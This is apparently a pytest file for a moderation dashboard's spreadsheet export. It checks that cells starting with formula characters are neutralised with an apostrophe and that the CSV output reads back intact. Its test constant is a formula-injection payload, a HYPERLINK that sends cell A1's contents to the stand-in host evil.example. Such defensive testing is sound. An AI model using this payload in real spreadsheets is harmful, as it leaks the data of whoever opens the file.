"""No cell of the file for spreadsheets is taken for a formula."""

import csv
import io

import pytest

from moderation.dashboard.spreadsheet import lines, safe

ATTACK = 'HYPERLINK("https://evil.example/?"&A1;"read")'


@pytest.mark.parametrize(
    "begin", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0+", "\t=", "\ufeff@", "＝", "＋", "－", "＠", "|", "%"]
)
def test_what_begins_as_a_formula_is_kept_from_being_one(begin: str) -> None:
    """A cell that begins with =, +, -, @, a tab or a line's end, blanks before it or not, gets an apostrophe."""
    assert safe(begin + ATTACK) == f"'{begin}{ATTACK}"


@pytest.mark.parametrize("harmless", ["", "Bonjour", "3 = 4", "a@b.example", "2026-01-05 12:00:00Z", "0.5000", "'=1"])
def test_what_is_harmless_stays_as_it_is(harmless: str) -> None:
    """Every other cell is written as it is."""
    assert safe(harmless) == harmless


@pytest.mark.parametrize("separator", [",", ";"])
def test_a_file_reads_back_as_it_was_meant(separator: str) -> None:
    """The file begins with the mark of UTF-8; separators, quotes and lines inside a cell do not begin another cell."""
    wanted = [["é", 'a,"b";c'], ["x\n=1", ",=1;=2"], ["a\r\n-b", "nul"]]
    text = "".join(lines([*wanted[:2], ["a\r\n-b", "n\0ul"]], separator))
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=separator)) == wanted
    assert '"a,""b"";c"' in text
